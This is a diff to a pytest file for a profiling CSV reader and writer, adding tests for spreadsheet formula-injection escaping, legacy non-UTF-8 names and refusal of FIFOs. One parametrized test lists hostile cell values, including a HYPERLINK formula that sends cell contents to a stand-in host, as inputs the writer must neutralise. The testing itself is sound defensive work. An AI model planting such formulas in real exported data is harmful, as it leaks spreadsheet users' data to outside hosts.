@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
+import logging
 import os
 import threading
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -24,6 +26,8 @@ from my_utils.core.profile_csv import (
 from my_utils.core.profile_csv_writer import ProfileCsvWriter
 
 BASE_NS = 1_764_000_000_123_456_000
+# what Excel, LibreOffice and Google Sheets run as a formula when a text cell starts with it
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
 row_args = st.tuples(
@@ -76,7 +80,8 @@ def test_reader_returns_rows_with_their_start_lines(tmp_path: Path) -> None:
     assert rows[0].timestamp_unix == pytest.approx(BASE_NS / 1e9)
 
 
-@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(max_examples=150, deadline=None, derandomize=True, database=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(st.lists(row_args, min_size=1, max_size=6))
 def test_valid_rows_round_trip(tmp_path: Path, rows: list[tuple]) -> None:
     text = HEADER_LINE + "".join(
@@ -86,6 +91,8 @@ def test_valid_rows_round_trip(tmp_path: Path, rows: list[tuple]) -> None:
     path = write(tmp_path, text.encode("utf-8"))
     got = read_profile_csv(path)
     assert len(got) == len(rows)
+    for record in list(csv.reader(io.StringIO(text)))[1:]:  # as a spreadsheet sees the cells
+        assert not any(record[i].startswith(FORMULA_START) for i in (2, 4, 5, 7)), record
     for (ns, machine, step, name, etype, dur, meta), row in zip(rows, got, strict=True):
         assert (row.machine_id, row.step, row.event_name, row.event_type) == (machine, step, name, etype.strip())
         assert row.duration_ms == dur
@@ -93,7 +100,8 @@ def test_valid_rows_round_trip(tmp_path: Path, rows: list[tuple]) -> None:
         assert row.metadata_dict() == {k.strip(): v for k, v in meta.items()}
 
 
-@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(max_examples=300, deadline=None, derandomize=True, database=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(st.binary(max_size=400), st.booleans())
 def test_arbitrary_bytes_never_crash_the_reader(tmp_path: Path, data: bytes, with_header: bool) -> None:
     path = write(tmp_path, (HEADER_LINE.encode() if with_header else b"") + data)
@@ -138,7 +146,7 @@ def _record_end(data: bytes, line: int) -> int:
         (HEADER_LINE.encode() + b"1.0,t,m,3.5,n,START,0,\n", "line 2", "expected an integer in column 'step'"),
         (HEADER_LINE.encode() + b"1.0,t,m,3,n,END,fast,\n", "line 2", "expected a number in column 'duration_ms'"),
         (HEADER_LINE.encode() + b"inf,t,m,3,n,END,1,\n", "line 2", "expected a finite unix time"),
-        (HEADER_LINE.encode() + b"\xff\xfe,t\n1.0,t,m,3,n,END,1,\n", "line 2", "expected UTF-8 text"),
+        (HEADER_LINE.encode() + b"\xff\xfe,t\n1.0,t,m,3,n,END,1,\n", "line 2", "expected 8 comma-separated fields"),
         (HEADER_LINE.encode() + b'1.0,"t"x,m,3,n,END,1,\n1.0,t,m,3,n,END,1,\n', "line 2", "well-formed CSV"),
         (b'{"traceEvents": []}', "line 1", "expected the profile CSV header"),
     ],
@@ -150,6 +158,57 @@ def test_garbage_is_reported_with_file_line_and_expectation(tmp_path: Path, cont
         read_profile_csv(path)
     assert str(info.value).startswith(f"{path}:{place}: ")
     assert expected in str(info.value)
+
+
+def test_an_old_file_with_non_utf8_names_is_read_with_the_bytes_escaped(tmp_path: Path,
+                                                                        caplog: pytest.LogCaptureFixture) -> None:
+    # what the writer wrote before names went through utf8_text: a raw \xe9 byte in the middle
+    good = format_profile_line(BASE_NS, "m", 1, "n", "START", 0.0, "node_id=0")
+    bad = good.replace(",n,", ",layer_\udce9,").encode("utf-8", "surrogateescape")
+    path = write(tmp_path, HEADER_LINE.encode() + bad + good.encode() + bad)
+    with caplog.at_level(logging.WARNING, logger="my_utils.core.profile_csv"):
+        rows = read_profile_csv(path)
+    assert [r.event_name for r in rows] == ["layer_\\xe9", "n", "layer_\\xe9"]
+    assert "2 line(s) are not valid UTF-8 (lines 2, 4)" in caplog.text
+    # a multi-byte character cut by a killed writer is still a torn last record, not a row
+    torn = write(tmp_path, HEADER_LINE.encode() + good.encode() + good.replace(",n,", ",é,").encode()[:-12])
+    assert [r.event_name for r in read_profile_csv(torn)] == ["n"]
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs os.mkfifo (POSIX)")
+def test_a_fifo_named_like_a_profile_csv_is_refused_without_blocking(tmp_path: Path) -> None:
+    fifo = tmp_path / "profile_rank_1.csv"
+    os.mkfifo(fifo)
+    (tmp_path / "profile_rank_1.steplog").write_bytes(b"")  # a log beside it: not rendered into a FIFO
+    outcome: list[BaseException] = []
+    reader = threading.Thread(target=lambda: outcome.append(_raised(lambda: read_profile_csv(fifo))), daemon=True)
+    reader.start()
+    reader.join(10)
+    if reader.is_alive():  # unblock the reader before failing, so the session can end
+        with open(fifo, "wb"):
+            pass
+        pytest.fail("reading a FIFO blocked")
+    (error,) = outcome
+    assert isinstance(error, InputError) and str(error) == f"{fifo}: a regular file (this is a FIFO)"
+
+
+def _raised(fn: Callable[[], object]) -> BaseException:
+    try:
+        fn()
+    except BaseException as exc:
+        return exc
+    raise AssertionError("no error raised")
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1:A9)",
+                                  "\t=1", "'=already quoted", "''+twice", "=a,b\nc", "\uff1dcmd"])
+def test_formula_names_are_neutralised_in_the_file_and_restored_by_the_reader(tmp_path: Path, name: str) -> None:
+    line = format_profile_line(BASE_NS, "=host_rank0", 1, name, "-START", 0.0, "@k=v")
+    path = write(tmp_path, (HEADER_LINE + line).encode())
+    (cells,) = list(csv.reader(io.StringIO(line)))
+    assert [cells[i][:1] for i in (2, 4, 5, 7)] == ["'"] * 4
+    (row,) = read_profile_csv(path)
+    assert (row.machine_id, row.event_name, row.event_type, row.metadata) == ("=host_rank0", name, "-START", "@k=v")
 
 
 def test_empty_file_bom_and_blank_lines(tmp_path: Path) -> None:
@@ -166,6 +225,7 @@ def test_missing_file_is_an_input_error(tmp_path: Path) -> None:
         read_profile_csv(tmp_path / "absent.csv")
 
 
+@settings(deadline=None, derandomize=True, database=None)
 @given(st.dictionaries(texts.filter(lambda k: bool(k.strip()) and k == k.strip()), texts, max_size=5))
 def test_metadata_round_trips(meta: dict[str, str]) -> None:
     assert parse_metadata(format_metadata(meta)) == meta
